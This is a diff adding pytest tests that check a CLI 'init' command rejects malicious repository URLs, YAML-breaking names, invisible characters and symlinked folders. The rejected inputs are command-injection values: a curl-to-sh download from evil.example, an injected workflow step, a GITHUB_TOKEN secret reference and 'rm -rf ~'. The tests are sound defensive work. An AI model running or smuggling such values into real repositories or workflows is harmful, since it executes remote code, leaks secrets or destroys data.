@@ -213,3 +213,84 @@ def test_a_template_that_writes_too_much_is_stopped(cli, tmp_path: Path, monkeyp
     mine = _template(tmp_path, "{% for i in range(100000) %}{{ 'x' * 100 }}{% endfor %}\n")
     result = cli("render", RDG, "-f", "md", "-o", "-", "--templates", str(mine))
     assert result.exit_code == 2 and "wrote more than 100,000 characters" in result.stderr
+
+
+# ---------------------------------------------------------------- init writes only what it validated
+
+
+PARTNERS = ("--partnership", "Solihull Safeguarding Children Partnership", "--police", "West Midlands Police (WMP)")
+
+
+@pytest.mark.parametrize(
+    "repo",
+    [
+        '"git+https://example.org/t.git" && curl -s https://evil.example/x.sh | sh && echo "',
+        "https://example.org/t.git\n      - run: curl evil.example | sh",
+        "https://example.org/${{ secrets.GITHUB_TOKEN }}",
+        "https://example.org/t.git; rm -rf ~",
+        "not a url",
+        "requests>=2",
+    ],
+)
+def test_init_refuses_a_torctl_repo_that_is_no_url_or_requirement(cli, tmp_path: Path, repo: str):
+    result = cli("init", str(tmp_path / "r"), *PARTNERS, "--torctl-repo", repo, cwd=tmp_path)
+    assert result.exit_code == 2 and "Traceback" not in result.stderr
+    assert not (tmp_path / "r").exists()
+
+
+@pytest.mark.parametrize(
+    ("repo", "install", "hook"),
+    [
+        ("git@github.com:org/torctl.git", "git+git@github.com:org/torctl.git@v", "git@github.com:org/torctl.git"),
+        (
+            "torctl @ git+https://example.org/t.git@main",
+            "torctl @ git+https://example.org/t.git@main",
+            "https://example.org/t.git",
+        ),
+        ("torctl>=0.1", "torctl>=0.1", None),
+    ],
+)
+def test_init_accepts_a_git_url_or_a_pep_508_requirement(cli, tmp_path: Path, repo: str, install: str, hook):
+    import yaml
+
+    result = cli("init", str(tmp_path / "r"), *PARTNERS, "--torctl-repo", repo, cwd=tmp_path)
+    assert result.exit_code == 0, result.stderr
+    steps = yaml.safe_load((tmp_path / "r/.github/workflows/torctl.yml").read_text())["jobs"]["validate"]["steps"]
+    assert len(steps) == 6
+    import shlex
+
+    assert shlex.split(steps[2]["run"])[-1].startswith(install)
+    config = yaml.safe_load((tmp_path / "r/.pre-commit-config.yaml").read_text())["repos"][0]
+    assert config["repo"] == (hook or "local")
+
+
+def test_init_writes_names_through_the_emitter_and_refuses_invisible_characters(cli, tmp_path: Path):
+    import yaml
+
+    odd = ("--partnership", 'P: "x"\nevil: 1 # ', "--police", "Police: {a: b} (P&P)")
+    result = cli("init", str(tmp_path / "r"), *odd, cwd=tmp_path)
+    assert result.exit_code == 0, result.stderr
+    agencies = yaml.safe_load((tmp_path / "r/bodies/agencies.yaml").read_text())["agencies"]
+    assert agencies[0]["name"] == "Police: {a: b}" and agencies[0]["short_name"] == "P&P"
+    assert cli("--bodies", str(tmp_path / "r/bodies"), "validate").exit_code == 0
+    for bad in ("Partner\u202eship", "Partner\u200bship", "Partner\x1b[2Jship"):
+        refused = cli("init", str(tmp_path / "s"), "--partnership", bad, "--police", "WMP", cwd=tmp_path)
+        assert refused.exit_code == 2 and "invisible or control character" in refused.stderr
+
+
+def test_init_refuses_an_empty_directory_a_dangling_link_and_a_linked_bodies_folder(cli, tmp_path: Path):
+    assert cli("init", "", *PARTNERS, cwd=tmp_path).exit_code == 2 and os.listdir(tmp_path) == []
+    assert cli("init", str(tmp_path / "e"), "--partnership", "  ", "--police", "WMP", cwd=tmp_path).exit_code == 2
+    dangling = tmp_path / "d"
+    dangling.mkdir()
+    (dangling / "README.md").symlink_to(tmp_path / "nowhere")
+    result = cli("init", str(dangling), *PARTNERS, cwd=tmp_path)
+    assert result.exit_code == 2 and "never overwrites a file" in result.stderr
+    assert (dangling / "README.md").is_symlink() and not (tmp_path / "nowhere").exists()
+    linked = tmp_path / "l"
+    linked.mkdir()
+    (tmp_path / "elsewhere").mkdir()
+    (linked / "bodies").symlink_to(tmp_path / "elsewhere")
+    result = cli("init", str(linked), *PARTNERS, cwd=tmp_path)
+    assert result.exit_code == 2 and "is a symbolic link" in result.stderr
+    assert os.listdir(tmp_path / "elsewhere") == []
